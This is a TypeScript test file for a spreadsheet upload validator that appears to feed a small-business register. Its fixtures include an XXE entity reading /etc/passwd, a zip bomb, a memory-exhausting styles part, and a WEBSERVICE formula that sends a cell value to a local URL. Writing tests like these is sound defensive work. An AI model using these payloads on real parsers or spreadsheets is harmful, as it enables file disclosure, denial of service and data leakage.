import { type BookType, CFB, utils, write } from "@e965/xlsx"
import { describe, expect, test } from "vitest"
import type { Actor } from "@/lib/access"
import { read } from "@/lib/db"
import { getIntake } from "@/lib/intake/queries/intakes"
import { writeZip, xlsxParts } from "@/lib/workbook/rules/fixture"
import { header, judgeFileOf, registerFile, saveJudged, someRow } from "../support/intake"
import { newTenant } from "../support/tenant"

const megabytes = () => process.memoryUsage().rss / 1024 / 1024
const good = Buffer.from(registerFile([someRow(1), someRow(2)]))
const dtd = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'

function ole(...streams: string[]): Buffer {
  const container = CFB.utils.cfb_new()
  for (const name of streams) CFB.utils.cfb_add(container, name, Buffer.alloc(5000))
  return Buffer.from(CFB.write(container, { type: "buffer" }))
}

function book(rows: (string | number | null)[][], bookType: BookType = "xlsx"): Buffer {
  const made = utils.book_new()
  utils.book_append_sheet(made, utils.aoa_to_sheet(rows), "Data")
  return Buffer.from(write(made, { type: "buffer", bookType }))
}

function withStyles(xml: Buffer): Buffer {
  const relation = (id: string, kind: string, target: string) =>
    `<Relationship Id="${id}" Type="http://x/${kind}" Target="${target}"/>`
  const relations = `<Relationships>${relation("rId1", "worksheet", "worksheets/sheet1.xml")}${relation("rId2", "styles", "styles.xml")}</Relationships>`
  const parts = xlsxParts("<worksheet><sheetData/></worksheet>").map((part) =>
    part.name === "xl/_rels/workbook.xml.rels" ? { ...part, data: Buffer.from(relations) } : part,
  )
  return writeZip([...parts, { name: "xl/styles.xml", data: xml }])
}

/** About 50 bytes to one, so that no ratio gives it away: 200 MB of styles in 4 MB. */
const styles = Buffer.from(
  Array.from({ length: 800_000 }, (_, at) => `<f n="${(at * 7919 + at * at) % 99_991}" c="${"0".repeat(230)}"/>`).join(
    "",
  ),
)

const refused: [string, Buffer, RegExp][] = [
  ["a file cut off in the middle", good.subarray(0, good.length / 2), /rusak atau tidak lengkap/],
  ["a locked file", ole("/EncryptionInfo", "/EncryptedPackage"), /kata sandi/],
  ["a PDF", Buffer.from("%PDF-1.7\n1 0 obj"), /PDF/],
  ["a zip bomb", writeZip(xlsxParts(Buffer.alloc(100_000_000, 32))), /bom ZIP/],
  ["styles that fill the memory", withStyles(styles), /bom ZIP/],
  ["an outer entity", writeZip(xlsxParts(`${dtd}<worksheet/>`)), /DTD/],
  ["a sheet without data", book([]), /kosong/],
  ["a header alone", book([["DATA UMKM"], header]), /belum ada baris data/],
  [
    "headings nobody knows",
    book([
      ["Foo", "Bar"],
      ["a", "b"],
      ["c", "d"],
    ]),
    /judul kolom tidak ditemukan/,
  ],
  [
    "a table of counts",
    book([
      ["Kecamatan", "Mikro", "Kecil"],
      ["Kanigaran", 5, 6],
      ["Wonoasih", 7, 8],
    ]),
    /ekapitulasi/,
  ],
  [
    "a form filled downwards",
    book([
      ["Nama Pemilik", "Budi"],
      ["NIK", "3574011708790001"],
      ["Nama Usaha", "Kue"],
      ["Alamat", "Jl. A"],
      ["No HP", "0811"],
    ]),
    /diisi ke bawah/,
  ],
]

function countEnterprises(actor: Actor): Promise<number> {
  return read(actor, (tx) => tx.enterprise.count({ where: { tenantId: actor.tenantId } }))
}

describe("files that are refused", () => {
  test.each(refused)("%s: one sentence, nothing in the register, and no memory kept", async (_, bytes, sentence) => {
    const { officer } = await newTenant()
    const before = megabytes()
    const intake = await getIntake(officer, await judgeFileOf(officer, bytes))
    expect(intake).toMatchObject({ state: "REFUSED", message: expect.stringMatching(sentence) })
    expect(intake?.message).toMatch(/^\p{Lu}[^\n]+\.$/u)
    expect(await countEnterprises(officer)).toBe(0)
    expect(megabytes() - before).toBeLessThan(400)
  })
})

describe("files that only look bad lose nothing", () => {
  const blanks = Array.from(
    { length: 70_000 },
    (_, at) => `<row r="${at + 3}"><c r="A${at + 3}" s="1"/><c r="GR${at + 3}" s="1"/></row>`,
  )
  const cells = (values: string[], row: number) =>
    `<row r="${row}">${values.map((text) => `<c t="inlineStr"><is><t>${text}</t></is></c>`).join("")}</row>`
  const list = cells(["Nama Pemilik", "Nama Usaha"], 1) + cells(["Budi", "Keripik Sari"], 2)
  const kept: [string, Buffer][] = [
    [
      "70,000 blank rows",
      writeZip(xlsxParts(`<worksheet><sheetData>${list}${blanks.join("")}</sheetData></worksheet>`)),
    ],
    [
      "200 columns",
      book([
        [...header, ...Array(194).fill("Lainnya")],
        [...someRow(1), ...Array(194).fill("x")],
      ]),
    ],
    ["an .xls called .xlsx", book([header, someRow(1)], "biff8")],
    ["HTML called .xlsx", book([header, someRow(1)], "html")],
    ["formulas that call out", formulas()],
  ]

  test.each(kept)("%s", async (_, bytes) => {
    const { officer } = await newTenant()
    const id = await judgeFileOf(officer, bytes)
    expect(await getIntake(officer, id)).toMatchObject({ state: "JUDGED" })
    expect((await saveJudged(officer, id)).saved).toBe(1)
    expect(await countEnterprises(officer)).toBe(1)
  })

  function formulas(): Buffer {
    const sheet = utils.aoa_to_sheet([header, someRow(1)])
    sheet.D2 = { t: "s", v: "Keripik Sari", f: 'WEBSERVICE("http://127.0.0.1:1/"&C2)' }
    const made = utils.book_new()
    utils.book_append_sheet(made, sheet, "Data")
    return Buffer.from(write(made, { type: "buffer", bookType: "xlsm" }))
  }
})
